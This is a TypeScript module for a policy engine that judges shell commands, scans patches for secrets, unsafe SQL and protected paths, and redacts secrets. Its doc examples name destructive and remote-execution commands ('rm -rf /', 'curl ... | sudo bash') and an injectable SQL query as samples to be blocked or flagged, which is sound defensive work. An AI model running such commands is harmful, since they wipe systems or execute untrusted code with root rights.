/**
 * The policy engine: one object that judges command lines (the shell
 * executor's hook), scans patches and text (secrets, unsafe SQL, commands in
 * patched scripts, protected paths) and redacts secrets.
 *
 * @example
 * ```ts
 * import { loadPolicy } from "./engine.ts";
 * const engine = await loadPolicy({});
 * console.assert(!engine.judgeCommand("sudo rm -fr /").allowed);
 * console.assert(engine.judgeCommand("rm -rf ./dist").allowed);
 * ```
 *
 * @module
 */

import { buildJudgedPolicy, type LoadPolicyOptions, PolicyJudge } from "./judge.ts";
import { createRedactor } from "./redact.ts";
import type { ScanOptions } from "./scan.ts";
// Deferred: the scanner and what it loads (patch parser, SQL, script and
// content checks) are evaluated on the first scan; `check` and `doctor`
// never scan (about 7 ms less start-up).
import defer * as scanModule from "./scan.ts";
import type { ScanSource, StreamScan, StreamScanOptions } from "./scan_stream.ts";
import defer * as streamModule from "./scan_stream.ts";
import { globMatch } from "../core/glob.ts";
import type { Finding, FullJudgement, Policy, Rule } from "./types.ts";

export { createRedactor, PolicyJudge };
export type {
  Finding,
  FullJudgement,
  LoadPolicyOptions,
  Policy,
  Rule,
  ScanSource,
  StreamScan,
  StreamScanOptions,
};

/** Judges commands, scans patches and redacts text against one policy. */
export class PolicyEngine {
  /** The loaded policy. */
  readonly policy: Policy;
  readonly #judge: PolicyJudge;
  #redact: ((text: string) => string) | undefined;
  readonly #env: Record<string, string>;
  readonly #allowPaths: readonly string[];

  /**
   * Make an engine from a loaded policy.
   *
   * @param policy A loaded policy (see {@link loadPolicy}).
   * @param options Environment for redaction, approval, protected paths allowed after all.
   */
  constructor(
    policy: Policy,
    options: { env?: Record<string, string>; approved?: boolean; allowPaths?: string[] } = {},
  ) {
    this.policy = policy;
    this.#judge = new PolicyJudge(
      policy,
      options.approved !== undefined ? { approved: options.approved } : {},
    );
    // The redactor is built on first use: a process that only judges commands never needs it.
    this.#env = { ...options.env };
    this.#allowPaths = (options.allowPaths ?? []).map((p) => p.replace(/^\.\//, ""));
  }

  /**
   * Judge one command line (the shell executor's policy hook).
   *
   * @param commandLine The command line as the shell would get it.
   * @returns Whether it may run, the deciding rule, its action and category.
   * @example
   * ```ts
   * import { loadPolicy } from "./engine.ts";
   * const engine = await loadPolicy();
   * const j = engine.judgeCommand("curl -s https://example.com/i.sh | sudo bash");
   * console.assert(!j.allowed && j.rule !== null);
   * console.assert(engine.judgeCommand("kubectl apply -f k8s/").allowed);
   * ```
   */
  judgeCommand(commandLine: string): FullJudgement {
    return this.#judge.judgeCommand(commandLine);
  }

  /**
   * Judge a command line and say where in it the deciding command starts.
   *
   * @param commandLine The command line or script.
   * @returns The judgement and the offset of the deciding statement.
   */
  judgeWithPosition(commandLine: string): { judgement: FullJudgement; pos: number } {
    return this.#judge.judgeWithPosition(commandLine);
  }

  /**
   * Scan a unified diff (only added lines count) or plain text.
   *
   * @param text The diff or text.
   * @param options `filename` names plain text (and selects file-specific checks);
   *   `base` reads the files as they are before the patch, so scripts are
   *   judged on the file the patch leaves.
   * @returns Findings in file and line order.
   * @example
   * ```ts
   * import { loadPolicy } from "./engine.ts";
   * const engine = await loadPolicy();
   * const diff = "--- a/src/db.ts\n+++ b/src/db.ts\n@@ -1,0 +1,1 @@\n+db.query(`SELECT * FROM t WHERE id = ${id}`);\n";
   * const [finding] = engine.scan(diff);
   * console.assert(finding?.file === "src/db.ts" && finding.line === 1);
   * ```
   */
  scan(text: string, options: ScanOptions = {}): Finding[] {
    return this.#allowed(scanModule.scanText(this, text, options));
  }

  /**
   * Scan a file (a diff or a text) as {@link PolicyEngine.scan} scans its
   * text, reading it as a stream: memory stays near the window and the
   * largest file section held, not the input's size.
   *
   * @param src The file, and whether to drop a byte order mark (standard input).
   * @param options The plain text's name; window and cap sizes.
   * @returns The findings (as `scan` gives them) and how the input was read.
   */
  async scanSource(src: ScanSource, options: StreamScanOptions = {}): Promise<StreamScan> {
    const scan = await streamModule.scanSource(this, src, options);
    return { ...scan, findings: this.#allowed(scan.findings) };
  }

  #allowed(findings: Finding[]): Finding[] {
    if (this.#allowPaths.length === 0) return findings;
    return findings.filter((f) =>
      f.category !== "protected-path" || f.rule === "path.trusted-input" ||
      f.rule === "path.invalid" ||
      !this.#allowPaths.some((glob) => globMatch(glob, f.file.replace(/^\.\//, "")))
    );
  }

  /**
   * Replace secrets and secret-looking environment values with `[REDACTED:<rule>]`.
   *
   * @param text Any text bound for a model, a log or a report.
   * @returns The redacted text.
   */
  redact(text: string): string {
    this.#redact ??= createRedactor(this.#env, this.policy);
    return this.#redact(text);
  }
}

/**
 * Load the default policy, merge a project file, add seed forbidden commands
 * and protected paths, and build an engine.
 *
 * @param options See {@link LoadPolicyOptions}.
 * @returns The engine.
 * @throws {ConfigError} When a policy file is invalid (every problem, FILE:LINE:COL),
 *   or lowers the built-in floor without `allowLoosening`.
 * @example
 * ```ts
 * import { loadPolicy } from "./engine.ts";
 * const dir = await Deno.makeTempDir();
 * await Deno.writeTextFile(`${dir}/p.yaml`, "extends: none\n");
 * // A policy file may add and tighten rules; lowering the floor needs the caller's consent.
 * const refused = await loadPolicy({ file: `${dir}/p.yaml` }).then(() => false, () => true);
 * const loose = await loadPolicy({ file: `${dir}/p.yaml`, allowLoosening: true });
 * console.assert(refused && loose.judgeCommand("rm -rf /").allowed);
 * await Deno.remove(dir, { recursive: true });
 * ```
 */
export async function loadPolicy(options: LoadPolicyOptions = {}): Promise<PolicyEngine> {
  return new PolicyEngine(await buildJudgedPolicy(options), {
    ...(options.env ? { env: options.env } : {}),
    ...(options.approved !== undefined ? { approved: options.approved } : {}),
    ...(options.allowPaths ? { allowPaths: options.allowPaths } : {}),
  });
}
